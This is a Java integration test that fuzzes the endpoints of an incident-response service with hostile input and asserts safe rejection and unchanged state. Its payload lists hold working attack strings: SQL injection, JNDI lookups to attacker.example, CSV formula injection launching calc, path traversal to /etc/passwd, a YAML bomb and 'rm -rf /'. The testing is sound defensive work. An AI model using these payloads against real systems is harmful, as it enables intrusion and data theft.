package io.cordon.system;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.cordon.local.demo.CordonApi;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Hostile input against every endpoint of the three services: malformed JSON and CSV, oversized
 * bodies and lists, wrong types, look-alike and invisible characters in UPNs, control characters,
 * SQL/JNDI/CSV-formula injection, wrong content types, missing/expired/forged tokens and wrong
 * roles. Nothing may answer 5xx; every 4xx is problem+json and names the field where one applies;
 * nothing changes (runs, partners, playbooks, notices and Graph calls are counted before and
 * after).
 */
class HostileInputIT {
  /** The strings an attacker would put anywhere a string goes. */
  static final List<String> NASTY =
      List.of(
          "' OR '1'='1' --",
          "\"; DROP TABLE runs; --",
          "${jndi:ldap://attacker.example/a}",
          "${${lower:j}ndi:dns://attacker.example}",
          "=HYPERLINK(\"http://attacker.example\")",
          "+cmd|' /C calc'!A0",
          "@SUM(1+1)",
          "-2+3",
          "<script>alert(1)</script>",
          "../../../../etc/passwd",
          "line\u0000nul",
          "bell\u0007\u001b[31mred",
          "\u202Egnp.exe",
          "zero\u200Bwidth",
          "x".repeat(5000));

  /** UPNs an intake must refuse entry by entry (look-alikes, invisible and control characters). */
  static final List<String> HOSTILE_UPNS =
      List.of(
          "h\u0430ruto.sato@jaxa-demo.example", // Cyrillic a
          "haruto.sato@j\u0430xa-demo.example",
          "haruto.sat\u03bf@jaxa-demo.example", // Greek omicron
          "haruto.sato@jaxa-demo.examp\u04cfe", // Cyrillic palochka
          "haruto\u200B.sato@jaxa-demo.example",
          "haruto.sato\u202E@jaxa-demo.example",
          "haruto.sato@jaxa-demo.example\u0000",
          "haruto\r\n.sato@jaxa-demo.example",
          "\uFEFFharuto.sato@jaxa-demo.example\u00A0x",
          "ｈａｒｕｔｏ@jaxa-demo.example", // full-width
          "haruto.sato@@jaxa-demo.example",
          "=cmd|' /C calc'!A0@jaxa-demo.example",
          "' OR 1=1 --@jaxa-demo.example",
          "${jndi:ldap://x/a}@jaxa-demo.example",
          ".haruto@jaxa-demo.example",
          "haruto.@jaxa-demo.example",
          "a".repeat(200) + "@jaxa-demo.example",
          "haruto.sato@",
          "@jaxa-demo.example",
          "haruto sato@jaxa-demo.example");

  record Case(
      String label,
      String service,
      String method,
      String path,
      String contentType,
      byte[] body,
      String authorization,
      String field,
      Integer expectedStatus) {}

  record Answer(Case test, int status, String contentType, JsonNode body) {}

  private static RunningStack running;
  private static HttpClient http;

  @BeforeAll
  static void stack() throws Exception {
    running = ReliabilityStack.get();
    http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
  }

  @Test
  void noHostileInputCausesA5xxAStateChangeOrAnUnnamedField() throws Exception {
    Map<String, Integer> before = stateCounts();
    List<Case> cases = new ArrayList<>();
    cases.addAll(tokenCases());
    cases.addAll(wrongRoleCases());
    cases.addAll(bodyCases());
    cases.addAll(fieldCases());
    cases.addAll(queryAndPathCases());

    List<String> wrong = new ArrayList<>();
    Map<Integer, Integer> statuses = new java.util.TreeMap<>();
    for (Case test : cases) {
      Answer answer = send(test);
      statuses.merge(answer.status(), 1, Integer::sum);
      String problem = judge(answer);
      if (problem != null) {
        wrong.add(test.label() + " -> " + answer.status() + " " + problem);
      }
    }
    running.simulator.journal(null, null); // settle
    Map<String, Integer> after = stateCounts();
    IncidentDrill.log("FIGURES hostile input: " + cases.size() + " cases, statuses " + statuses);

    assertThat(cases.size()).isGreaterThanOrEqualTo(300);
    assertThat(wrong).as("hostile cases answered wrongly").isEmpty();
    assertThat(after).as("state after the hostile cases").isEqualTo(before);
  }

  @Test
  void hostileUpnsAreRefusedOneByOneAndNothingIsRemediated() throws Exception {
    Map<String, Integer> before = stateCounts();
    StringBuilder csv = new StringBuilder("account\n");
    for (String upn : HOSTILE_UPNS) {
      csv.append('"').append(upn.replace("\"", "\"\"")).append("\"\n");
    }
    List<Map<String, String>> accounts = new ArrayList<>();
    HOSTILE_UPNS.forEach(upn -> accounts.add(Map.of("upn", upn)));
    String json =
        CordonApi.json()
            .writeValueAsString(
                Map.of("incident", Map.of("id", "INC-HOSTILE-UPN"), "accounts", accounts));
    for (Case test :
        List.of(
            new Case(
                "hostile UPNs as CSV",
                "account-service",
                "POST",
                "/api/v1/compromise-reports?incidentId=INC-HOSTILE-UPN",
                "text/csv",
                csv.toString().getBytes(StandardCharsets.UTF_8),
                bearer("responder"),
                null,
                202),
            new Case(
                "hostile UPNs as JSON",
                "account-service",
                "POST",
                "/api/v1/compromise-reports",
                "application/json",
                json.getBytes(StandardCharsets.UTF_8),
                bearer("responder"),
                null,
                202))) {
      Answer answer = send(test);
      assertThat(answer.status()).as(test.label() + ": " + answer.body()).isEqualTo(202);
      assertThat(answer.body().path("accepted").asInt()).as(test.label()).isZero();
      // a CR LF inside a quoted CSV value may split one entry into two refused lines
      assertThat(answer.body().path("rejected").size())
          .as(test.label())
          .isGreaterThanOrEqualTo(HOSTILE_UPNS.size());
      JsonNode report =
          running.follower.awaitReportSettled(
              answer.body().path("reportId").asText(), Duration.ofMinutes(1));
      assertThat(report.path("status").asText()).isEqualTo("COMPLETED");
      for (JsonNode rejection : answer.body().path("rejected")) {
        assertThat(rejection.path("input").asText()).doesNotContain("\u0000", "\r", "\n");
      }
    }
    assertThat(stateCounts()).isEqualTo(before);
  }

  private static String judge(Answer answer) {
    Case test = answer.test();
    if (answer.status() >= 500) {
      return "server error " + answer.body();
    }
    if (test.expectedStatus() != null && answer.status() != test.expectedStatus()) {
      return "expected " + test.expectedStatus() + ": " + answer.body();
    }
    if (answer.status() < 400) {
      // a read changes nothing: an unknown incident simply has no evidence
      boolean read = test.method().equals("GET");
      return test.expectedStatus() == null && !read
          ? "accepted hostile input: " + answer.body()
          : null;
    }
    if (!answer.contentType().startsWith("application/problem+json")) {
      return "not problem+json but '" + answer.contentType() + "': " + answer.body();
    }
    if (test.field() != null && (answer.status() == 400 || answer.status() == 422)) {
      for (JsonNode error : answer.body().path("errors")) {
        if (error.path("field").asText().contains(test.field())) {
          return null;
        }
      }
      return "no error naming '" + test.field() + "': " + answer.body();
    }
    return null;
  }

  // ---- the cases ----------------------------------------------------------------------------

  /** Every endpoint with every unacceptable credential: 401. */
  private static List<Case> tokenCases() throws Exception {
    Map<String, String> tokens =
        HostileTokens.all(running, running.stack.options().workDirectory());
    List<Case> cases = new ArrayList<>();
    for (var service : RoleMatrixIT.matrix().entrySet()) {
      for (var endpoint : service.getValue().entrySet()) {
        if (endpoint.getValue().contains("*")) {
          continue;
        }
        String method = endpoint.getKey().substring(0, endpoint.getKey().indexOf(' '));
        String path = withIds(endpoint.getKey().substring(endpoint.getKey().indexOf(' ') + 1));
        for (var token : tokens.entrySet()) {
          cases.add(
              new Case(
                  token.getKey() + " token: " + endpoint.getKey(),
                  service.getKey(),
                  method,
                  path,
                  method.equals("GET") || method.equals("DELETE") ? null : "application/json",
                  method.equals("GET") || method.equals("DELETE") ? null : bytes("{}"),
                  token.getValue(),
                  null,
                  401));
        }
      }
    }
    return cases;
  }

  /** A valid token of a role that may not write: 403 (the full matrix is RoleMatrixIT). */
  private static List<Case> wrongRoleCases() throws Exception {
    List<Case> cases = new ArrayList<>();
    // admin in the groups claim: roles come from the roles claim only, so this is nobody's admin
    String groupsAdmin = "Bearer " + HostileTokens.groupsOnlyAdmin(running);
    cases.add(
        new Case(
            "admin in groups only: create partner",
            "notification-service",
            "POST",
            "/api/v1/partners",
            "application/json",
            bytes(partner("Mallory")),
            groupsAdmin,
            null,
            403));
    cases.add(
        new Case(
            "admin in groups only: change playbook",
            "playbook-service",
            "PUT",
            "/api/v1/playbooks/contain-compromised-account",
            "application/json",
            bytes("{}"),
            groupsAdmin,
            null,
            403));
    cases.add(
        new Case(
            "admin in groups only: list protected accounts",
            "account-service",
            "GET",
            "/api/v1/protected-accounts",
            null,
            null,
            groupsAdmin,
            null,
            403));
    for (String role : List.of("viewer", "detector")) {
      cases.add(
          json(
              "as " + role + ": create partner",
              "notification-service",
              "POST",
              "/api/v1/partners",
              partner("Mallory"),
              role,
              null,
              403));
      cases.add(
          json(
              "as " + role + ": change playbook",
              "playbook-service",
              "PUT",
              "/api/v1/playbooks/contain-compromised-account",
              "{}",
              role,
              null,
              403));
      cases.add(
          json(
              "as " + role + ": start run",
              "playbook-service",
              "POST",
              "/api/v1/runs",
              "{}",
              role,
              null,
              403));
    }
    cases.add(
        json(
            "as responder: detection",
            "account-service",
            "POST",
            "/api/v1/detections",
            "{}",
            "responder",
            null,
            403));
    cases.add(
        json(
            "as detector: report",
            "account-service",
            "POST",
            "/api/v1/compromise-reports",
            "{}",
            "detector",
            null,
            403));
    return cases;
  }

  /** Bodies that are not what an endpoint takes, sent to every endpoint that takes one. */
  private static List<Case> bodyCases() {
    Map<String, String[]> writers = new LinkedHashMap<>();
    writers.put("POST /api/v1/compromise-reports", new String[] {"account-service", "responder"});
    writers.put("POST /api/v1/detections", new String[] {"account-service", "detector"});
    writers.put("POST /api/v1/runs", new String[] {"playbook-service", "responder"});
    writers.put("POST /api/v1/runs/{id}/cancel", new String[] {"playbook-service", "responder"});
    writers.put(
        "POST /api/v1/runs/{id}/approvals/{id}", new String[] {"playbook-service", "approver"});
    writers.put("POST /api/v1/playbooks", new String[] {"playbook-service", "admin"});
    writers.put(
        "PUT /api/v1/playbooks/contain-compromised-account",
        new String[] {"playbook-service", "admin"});
    writers.put("POST /api/v1/partners", new String[] {"notification-service", "admin"});
    writers.put("PUT /api/v1/partners/{id}", new String[] {"notification-service", "admin"});
    writers.put(
        "POST /api/v1/notifications/{id}/redeliver",
        new String[] {"notification-service", "responder"});
    Map<String, String> malformed = new LinkedHashMap<>();
    malformed.put("truncated object", "{\"incident\": {\"id\": \"x\"");
    malformed.put("trailing comma", "{\"a\": 1,}");
    malformed.put("missing value", "{\"a\": }");
    malformed.put("single quotes", "{'a': 'b'}");
    malformed.put("bare word", "hello");
    malformed.put("root null", "null");
    malformed.put("root array", "[1, 2, 3]");
    malformed.put("root number", "42");
    malformed.put("root string", "\"x\"");
    malformed.put("nested 5000 deep", "[".repeat(5000) + "]".repeat(5000));
    malformed.put("duplicate keys", "{\"name\": \"a\", \"name\": {\"$gt\": \"\"}}");
    malformed.put("NaN number", "{\"a\": NaN}");
    malformed.put(
        "invalid utf-8",
        new String(
            new byte[] {'{', '"', (byte) 0xC3, (byte) 0x28, '"', ':', '1', '}'},
            StandardCharsets.ISO_8859_1));
    List<Case> cases = new ArrayList<>();
    for (var writer : writers.entrySet()) {
      String method = writer.getKey().substring(0, writer.getKey().indexOf(' '));
      String path = withIds(writer.getKey().substring(writer.getKey().indexOf(' ') + 1));
      String service = writer.getValue()[0];
      String role = writer.getValue()[1];
      for (var body : malformed.entrySet()) {
        byte[] raw =
            body.getKey().equals("invalid utf-8")
                ? body.getValue().getBytes(StandardCharsets.ISO_8859_1)
                : bytes(body.getValue());
        cases.add(
            new Case(
                body.getKey() + ": " + writer.getKey(),
                service,
                method,
                path,
                "application/json",
                raw,
                bearer(role),
                null,
                null));
      }
      for (String type :
          List.of(
              "application/xml",
              "text/plain",
              "multipart/form-data; boundary=x",
              "application/x-www-form-urlencoded")) {
        cases.add(
            new Case(
                "content type " + type + ": " + writer.getKey(),
                service,
                method,
                path,
                type,
                bytes("<a>1</a>"),
                bearer(role),
                null,
                null));
      }
      cases.add(
          new Case(
              "no content type: " + writer.getKey(),
              service,
              method,
              path,
              null,
              bytes("{}"),
              bearer(role),
              null,
              null));
    }
    // bodies past the 10 MB limit, one per service
    byte[] huge = bytes("{\"pad\":\"" + "x".repeat(11 * 1024 * 1024) + "\"}");
    cases.add(
        new Case(
            "11 MB body: compromise report",
            "account-service",
            "POST",
            "/api/v1/compromise-reports",
            "application/json",
            huge,
            bearer("responder"),
            null,
            null));
    cases.add(
        new Case(
            "11 MB body: run",
            "playbook-service",
            "POST",
            "/api/v1/runs",
            "application/json",
            huge,
            bearer("responder"),
            null,
            null));
    cases.add(
        new Case(
            "11 MB body: partner",
            "notification-service",
            "POST",
            "/api/v1/partners",
            "application/json",
            huge,
            bearer("admin"),
            null,
            null));
    return cases;
  }

  /** Right shape, wrong content: the error must name the field. */
  private static List<Case> fieldCases() throws Exception {
    List<Case> cases = new ArrayList<>();
    // compromise report (JSON)
    String reports = "/api/v1/compromise-reports";
    cases.add(report("no incident", "{\"accounts\": [\"a@b.example\"]}", "incident"));
    cases.add(report("incident as string", "{\"incident\": \"x\", \"accounts\": []}", "incident"));
    cases.add(
        report(
            "incident id object",
            "{\"incident\": {\"id\": {\"$ne\": 1}}, \"accounts\": [\"a@b.example\"]}",
            "incident.id"));
    cases.add(
        report(
            "blank incident id",
            "{\"incident\": {\"id\": \"  \"}, \"accounts\": [\"a@b.example\"]}",
            "incident.id"));
    cases.add(
        report(
            "incident id 201 chars",
            "{\"incident\": {\"id\": \""
                + "i".repeat(201)
                + "\"}, \"accounts\": [\"a@b.example\"]}",
            "incident.id"));
    cases.add(
        report(
            "title 501 chars",
            "{\"incident\": {\"id\": \"x\", \"title\": \""
                + "t".repeat(501)
                + "\"}, \"accounts\": [\"a@b.example\"]}",
            "incident.title"));
    cases.add(
        report(
            "unknown severity",
            "{\"incident\": {\"id\": \"x\", \"severity\": \"APOCALYPTIC\"}, \"accounts\": [\"a@b.example\"]}",
            "severity"));
    cases.add(
        report(
            "accounts as string",
            "{\"incident\": {\"id\": \"x\"}, \"accounts\": \"a@b.example\"}",
            "accounts"));
    cases.add(report("accounts missing", "{\"incident\": {\"id\": \"x\"}}", "accounts"));
    cases.add(
        report(
            "playbook with path",
            "{\"incident\": {\"id\": \"x\"}, \"playbook\": \"../admin\", \"accounts\": [\"a@b.example\"]}",
            "playbook"));
    cases.add(
        report(
            "source 201 chars",
            "{\"incident\": {\"id\": \"x\"}, \"source\": \""
                + "s".repeat(201)
                + "\", \"accounts\": [\"a@b.example\"]}",
            "source"));
    StringBuilder many = new StringBuilder("{\"incident\": {\"id\": \"x\"}, \"accounts\": [");
    for (int i = 0; i < 50_001; i++) {
      many.append(i == 0 ? "" : ",").append("\"u").append(i).append("@b.example\"");
    }
    cases.add(report("50,001 accounts", many.append("]}").toString(), "accounts"));
    for (String nasty : NASTY) {
      cases.add(
          report(
              "nasty incident id " + shortLabel(nasty),
              "{\"incident\": {\"id\": "
                  + quote(nasty + "\u0001")
                  + "}, \"accounts\": [\"a@b.example\"], \"playbook\": "
                  + quote(nasty)
                  + "}",
              "playbook"));
    }
    // compromise report (CSV)
    Map<String, String> csv = new LinkedHashMap<>();
    csv.put("no account column", "user\nharuto.sato@jaxa-demo.example\n");
    csv.put("empty body", "");
    csv.put("unbalanced quote", "account\n\"haruto.sato@jaxa-demo.example\n");
    csv.put("binary", "\u0000\u0001\u0002\u0003");
    csv.put("formula header", "=cmd|' /C calc'!A0\nx\n");
    StringBuilder manyLines = new StringBuilder("account\n");
    for (int i = 0; i < 50_001; i++) {
      manyLines.append("u").append(i).append("@b.example\n");
    }
    csv.put("50,001 lines", manyLines.toString());
    for (var body : csv.entrySet()) {
      cases.add(
          new Case(
              "csv " + body.getKey(),
              "account-service",
              "POST",
              reports + "?incidentId=INC-HOSTILE",
              "text/csv",
              bytes(body.getValue()),
              bearer("responder"),
              null,
              // a line with an open quote is refused on its own (docs/api.md), the report goes on
              body.getKey().equals("unbalanced quote") ? Integer.valueOf(202) : null));
    }
    cases.add(
        new Case(
            "csv without incidentId",
            "account-service",
            "POST",
            reports,
            "text/csv",
            bytes("account\na@b.example\n"),
            bearer("responder"),
            "incidentId",
            400));
    for (String nasty : NASTY) {
      cases.add(
          new Case(
              "csv severity " + shortLabel(nasty),
              "account-service",
              "POST",
              reports + "?incidentId=INC-HOSTILE&severity=" + enc(nasty),
              "text/csv",
              bytes("account\na@b.example\n"),
              bearer("responder"),
              "severity",
              400));
    }
    // detections
    cases.add(
        json(
            "detection of unknown shape",
            "account-service",
            "POST",
            "/api/v1/detections",
            "{\"@odata.type\": \"#microsoft.graph.user\"}",
            "detector",
            null,
            null));
    cases.add(
        json(
            "detection with nasty type",
            "account-service",
            "POST",
            "/api/v1/detections",
            "{\"@odata.type\": " + quote(NASTY.get(2)) + "}",
            "detector",
            null,
            null));
    cases.add(
        json(
            "sentinel incident without entities",
            "account-service",
            "POST",
            "/api/v1/detections",
            "{\"objectSchemaType\": \"Incident\", \"object\": {\"name\": 5}}",
            "detector",
            null,
            null));
    // runs
    cases.add(
        json(
            "run without accounts",
            "playbook-service",
            "POST",
            "/api/v1/runs",
            "{\"incidentId\": \"INC-HOSTILE\"}",
            "responder",
            "accounts",
            400));
    cases.add(
        json(
            "run accounts wrong type",
            "playbook-service",
            "POST",
            "/api/v1/runs",
            "{\"incidentId\": \"INC-HOSTILE\", \"accounts\": \"x\"}",
            "responder",
            "accounts",
            400));
    cases.add(
        json(
            "run unknown playbook",
            "playbook-service",
            "POST",
            "/api/v1/runs",
            "{\"incidentId\": \"INC-HOSTILE\", \"playbook\": "
                + quote(NASTY.get(0))
                + ", \"accounts\": [{\"objectId\": \""
                + UUID.randomUUID()
                + "\"}]}",
            "responder",
            "playbook",
            null));
    cases.add(
        json(
            "run bad severity",
            "playbook-service",
            "POST",
            "/api/v1/runs",
            "{\"incidentId\": \"INC-HOSTILE\", \"severity\": \"${jndi:ldap://x/a}\", \"accounts\": [{\"objectId\": \""
                + UUID.randomUUID()
                + "\"}]}",
            "responder",
            "severity",
            400));
    cases.add(
        json(
            "run account bad object id",
            "playbook-service",
            "POST",
            "/api/v1/runs",
            "{\"incidentId\": \"INC-HOSTILE\", \"accounts\": [{\"objectId\": \"' OR 1=1 --\"}]}",
            "responder",
            "accounts",
            400));
    cases.add(
        json(
            "run account wrong types",
            "playbook-service",
            "POST",
            "/api/v1/runs",
            "{\"incidentId\": \"INC-HOSTILE\", \"accounts\": [{\"objectId\": 7, \"onPremisesSynced\": \"maybe\", \"privilegedRoles\": \"x\"}]}",
            "responder",
            "accounts",
            400));
    cases.add(
        json(
            "run no incident",
            "playbook-service",
            "POST",
            "/api/v1/runs",
            "{\"accounts\": [{\"objectId\": \"" + UUID.randomUUID() + "\"}]}",
            "responder",
            "incidentId",
            400));
    // decisions on an unknown approval
    for (String decision :
        List.of("maybe", "", "APPROVE; DROP TABLE approvals", "${jndi:ldap://x/a}")) {
      cases.add(
          json(
              "decision " + shortLabel(decision),
              "playbook-service",
              "POST",
              withIds("/api/v1/runs/{id}/approvals/{id}"),
              "{\"decision\": " + quote(decision) + "}",
              "approver",
              null,
              null));
    }
    // playbooks
    cases.add(
        json(
            "playbook no steps",
            "playbook-service",
            "POST",
            "/api/v1/playbooks",
            "{\"name\": \"hostile\"}",
            "admin",
            "steps",
            null));
    cases.add(
        json(
            "playbook nasty name",
            "playbook-service",
            "POST",
            "/api/v1/playbooks",
            "{\"name\": " + quote(NASTY.get(9)) + ", \"steps\": []}",
            "admin",
            "name",
            400));
    cases.add(
        json(
            "playbook unknown action",
            "playbook-service",
            "POST",
            "/api/v1/playbooks",
            "{\"name\": \"hostile\", \"steps\": [{\"id\": \"a\", \"action\": \"rm -rf /\"}]}",
            "admin",
            "steps",
            null));
    cases.add(
        new Case(
            "playbook YAML bomb",
            "playbook-service",
            "POST",
            "/api/v1/playbooks",
            "application/yaml",
            bytes(yamlBomb()),
            bearer("admin"),
            null,
            null));
    // partners
    cases.add(
        json(
            "partner no name",
            "notification-service",
            "POST",
            "/api/v1/partners",
            "{\"webhook\": {\"url\": \"https://p.example/h\"}}",
            "admin",
            "name",
            400));
    cases.add(
        json(
            "partner name 201 chars",
            "notification-service",
            "POST",
            "/api/v1/partners",
            partner("n".repeat(201)),
            "admin",
            "name",
            400));
    cases.add(
        json(
            "partner contacts not emails",
            "notification-service",
            "POST",
            "/api/v1/partners",
            "{\"name\": \"Mallory\", \"webhook\": {\"url\": \"https://partner.example/hook\"}, \"contacts\": [\"=cmd|' /C calc'!A0\", \"a@b.example\\r\\nBcc: all@x.example\"]}",
            "admin",
            "contacts",
            400));
    cases.add(
        json(
            "partner 51 contacts",
            "notification-service",
            "POST",
            "/api/v1/partners",
            "{\"name\": \"Mallory\", \"webhook\": {\"url\": \"https://partner.example/hook\"}, \"contacts\": ["
                + "\"a@b.example\",".repeat(50)
                + "\"a@b.example\"]}",
            "admin",
            "contacts",
            400));
    cases.add(
        json(
            "partner webhook http",
            "notification-service",
            "POST",
            "/api/v1/partners",
            "{\"name\": \"Mallory\", \"webhook\": {\"url\": \"https://partner.example/hook\"}, \"webhook\": {\"url\": \"http://p.example/h\"}}",
            "admin",
            "webhook.url",
            400));
    cases.add(
        json(
            "partner webhook javascript",
            "notification-service",
            "POST",
            "/api/v1/partners",
            "{\"name\": \"Mallory\", \"webhook\": {\"url\": \"https://partner.example/hook\"}, \"webhook\": {\"url\": \"javascript:alert(1)\"}}",
            "admin",
            "webhook.url",
            400));
    cases.add(
        json(
            "partner webhook secret short",
            "notification-service",
            "POST",
            "/api/v1/partners",
            "{\"name\": \"Mallory\", \"webhook\": {\"url\": \"https://partner.example/hook\"}, \"webhook\": {\"url\": \"https://p.example/h\", \"secret\": \"x\"}}",
            "admin",
            "webhook.secret",
            400));
    cases.add(
        json(
            "partner webhook as string",
            "notification-service",
            "POST",
            "/api/v1/partners",
            "{\"name\": \"Mallory\", \"webhook\": {\"url\": \"https://partner.example/hook\"}, \"webhook\": \"https://p.example/h\"}",
            "admin",
            "webhook",
            400));
    cases.add(
        json(
            "partner unknown tlp",
            "notification-service",
            "POST",
            "/api/v1/partners",
            "{\"name\": \"Mallory\", \"webhook\": {\"url\": \"https://partner.example/hook\"}, \"tlp\": \"ultraviolet\"}",
            "admin",
            "tlp",
            400));
    cases.add(
        json(
            "partner unknown disclosure",
            "notification-service",
            "POST",
            "/api/v1/partners",
            "{\"name\": \"Mallory\", \"webhook\": {\"url\": \"https://partner.example/hook\"}, \"disclosure\": 3}",
            "admin",
            "disclosure",
            400));
    cases.add(
        json(
            "partner 1001 groups",
            "notification-service",
            "POST",
            "/api/v1/partners",
            "{\"name\": \"Mallory\", \"webhook\": {\"url\": \"https://partner.example/hook\"}, \"scopes\": {\"groups\": ["
                + "\"g\",".repeat(1000)
                + "\"g\"]}}",
            "admin",
            "scopes.groups",
            400));
    for (String nasty : NASTY) {
      cases.add(
          json(
              "partner domain " + shortLabel(nasty),
              "notification-service",
              "POST",
              "/api/v1/partners",
              "{\"name\": \"Mallory\", \"webhook\": {\"url\": \"https://partner.example/hook\"}, \"scopes\": {\"domains\": ["
                  + quote(nasty)
                  + "]}}",
              "admin",
              "scopes.domains",
              400));
      if (nasty.chars().anyMatch(Character::isISOControl) || nasty.length() > 100) {
        // a tag is 1-100 characters without control characters (bidi and zero-width pass)
        cases.add(
            json(
                "partner tag " + shortLabel(nasty),
                "notification-service",
                "POST",
                "/api/v1/partners",
                "{\"name\": \"Mallory\", \"webhook\": {\"url\": \"https://partner.example/hook\"},"
                    + " \"scopes\": {\"tags\": ["
                    + quote(nasty)
                    + "]}}",
                "admin",
                "scopes.tags",
                400));
      }
    }
    return cases;
  }

  /** Query parameters and path ids that are not what they should be. */
  private static List<Case> queryAndPathCases() {
    List<Case> cases = new ArrayList<>();
    Map<String, String> lists = new LinkedHashMap<>();
    lists.put("/api/v1/runs", "playbook-service");
    lists.put("/api/v1/approvals", "playbook-service");
    lists.put("/api/v1/playbooks", "playbook-service");
    lists.put("/api/v1/partners", "notification-service");
    lists.put("/api/v1/notifications", "notification-service");
    lists.put("/api/v1/audit", "account-service");
    for (var list : lists.entrySet()) {
      for (String limit : List.of("-1", "0", "abc", "99999999999", "1e3")) {
        cases.add(
            new Case(
                "limit " + limit + ": " + list.getKey(),
                list.getValue(),
                "GET",
                list.getKey() + "?limit=" + enc(limit),
                null,
                null,
                bearer("viewer"),
                "limit",
                null));
      }
      for (String cursor : List.of("garbage", "' OR 1=1 --", "${jndi:ldap://x/a}", "%00")) {
        cases.add(
            new Case(
                "cursor " + shortLabel(cursor) + ": " + list.getKey(),
                list.getValue(),
                "GET",
                list.getKey() + "?cursor=" + enc(cursor),
                null,
                null,
                bearer("viewer"),
                "cursor",
                null));
      }
    }
    cases.add(
        new Case(
            "run status bogus",
            "playbook-service",
            "GET",
            "/api/v1/runs?status=" + enc("' OR 1=1 --"),
            null,
            null,
            bearer("viewer"),
            "status",
            400));
    cases.add(
        new Case(
            "approval state bogus",
            "playbook-service",
            "GET",
            "/api/v1/approvals?state=" + enc("${jndi:ldap://x/a}"),
            null,
            null,
            bearer("viewer"),
            "state",
            400));
    cases.add(
        new Case(
            "audit from not a date",
            "account-service",
            "GET",
            "/api/v1/audit?from=yesterday",
            null,
            null,
            bearer("viewer"),
            "from",
            400));
    Map<String, String> items = new LinkedHashMap<>();
    items.put("/api/v1/compromise-reports/", "account-service");
    items.put("/api/v1/runs/", "playbook-service");
    items.put("/api/v1/partners/", "notification-service");
    items.put("/api/v1/notifications/", "notification-service");
    items.put("/api/v1/incidents/", "playbook-service");
    for (var item : items.entrySet()) {
      for (String id :
          List.of(
              "not-a-uuid",
              "' OR 1=1 --",
              "${jndi:ldap://x/a}",
              "..%2F..%2Fetc%2Fpasswd",
              "h\u0430ruto",
              "%00")) {
        String path =
            item.getKey() + enc(id) + (item.getKey().contains("incidents") ? "/evidence" : "");
        cases.add(
            new Case(
                "id " + shortLabel(id) + ": " + item.getKey(),
                item.getValue(),
                "GET",
                path,
                null,
                null,
                bearer(item.getKey().contains("incidents") ? "admin" : "viewer"),
                null,
                null));
      }
    }
    return cases;
  }

  // ---- helpers ------------------------------------------------------------------------------

  private static Case report(String label, String body, String field) {
    return json(
        "report " + label,
        "account-service",
        "POST",
        "/api/v1/compromise-reports",
        body,
        "responder",
        field,
        null);
  }

  private static Case json(
      String label,
      String service,
      String method,
      String path,
      String body,
      String role,
      String field,
      Integer status) {
    return new Case(
        label, service, method, path, "application/json", bytes(body), bearer(role), field, status);
  }

  private static String partner(String name) {
    return "{\"name\": "
        + quote(name)
        + ", \"webhook\": {\"url\": \"https://partner.example/hook\"}}";
  }

  private static String yamlBomb() {
    StringBuilder yaml =
        new StringBuilder(
            "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    char previous = 'a';
    for (char c = 'b'; c <= 'i'; c++) {
      yaml.append(c).append(": &").append(c).append(" [");
      for (int i = 0; i < 9; i++) {
        yaml.append(i == 0 ? "" : ",").append('*').append(previous);
      }
      yaml.append("]\n");
      previous = c;
    }
    return yaml.toString();
  }

  private static String withIds(String path) {
    return path.replaceAll("\\{[^}]+}", UUID.randomUUID().toString());
  }

  private static String bearer(String role) {
    return "Bearer " + running.token(role);
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static String quote(String text) {
    try {
      return CordonApi.json().writeValueAsString(text);
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  private static String enc(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }

  private static String shortLabel(String text) {
    String printable = text.replaceAll("\\p{Cntrl}", "?");
    return printable.length() > 24 ? printable.substring(0, 24) + "…" : printable;
  }

  private static Answer send(Case test) throws Exception {
    URI url = running.stack.serviceUrl(test.service()).resolve(test.path());
    HttpRequest.Builder request =
        HttpRequest.newBuilder(url).timeout(Duration.ofSeconds(60)).header("Accept", "*/*");
    if (test.authorization() != null) {
      request.header("Authorization", test.authorization());
    }
    if (test.contentType() != null) {
      request.header("Content-Type", test.contentType());
    }
    request.method(
        test.method(),
        test.body() == null
            ? HttpRequest.BodyPublishers.noBody()
            : HttpRequest.BodyPublishers.ofByteArray(test.body()));
    HttpResponse<String> response;
    try {
      response = http.send(request.build(), HttpResponse.BodyHandlers.ofString());
    } catch (java.io.IOException closed) {
      // a server may close the connection on a body past its limit instead of answering 413
      return new Answer(test, 413, "application/problem+json", CordonApi.json().nullNode());
    }
    String type = response.headers().firstValue("Content-Type").orElse("");
    JsonNode body;
    try {
      body = CordonApi.json().readTree(response.body().isEmpty() ? "null" : response.body());
    } catch (Exception notJson) {
      body = CordonApi.json().getNodeFactory().textNode(response.body());
    }
    return new Answer(test, response.statusCode(), type, body);
  }

  /** What a hostile request must not change: runs, partners, playbooks, notices, Graph calls. */
  private static Map<String, Integer> stateCounts() throws Exception {
    Map<String, Integer> counts = new LinkedHashMap<>();
    counts.put("runs", count("playbook-service", "/api/v1/runs?limit=1000"));
    counts.put(
        "playbooks",
        running
            .api
            .get(
                running.stack.serviceUrl("playbook-service").resolve("/api/v1/playbooks"),
                running.token("viewer"))
            .path("items")
            .size());
    counts.put("partners", count("notification-service", "/api/v1/partners?limit=1000"));
    counts.put("notifications", count("notification-service", "/api/v1/notifications?limit=1000"));
    counts.put("graph calls", running.simulator.journal(null, null).size());
    return counts;
  }

  private static int count(String service, String path) throws Exception {
    return running
        .api
        .get(running.stack.serviceUrl(service).resolve(path), running.token("viewer"))
        .path("items")
        .size();
  }

  @SuppressWarnings("unused")
  private static Path scratch() {
    return running.stack.options().workDirectory();
  }
}
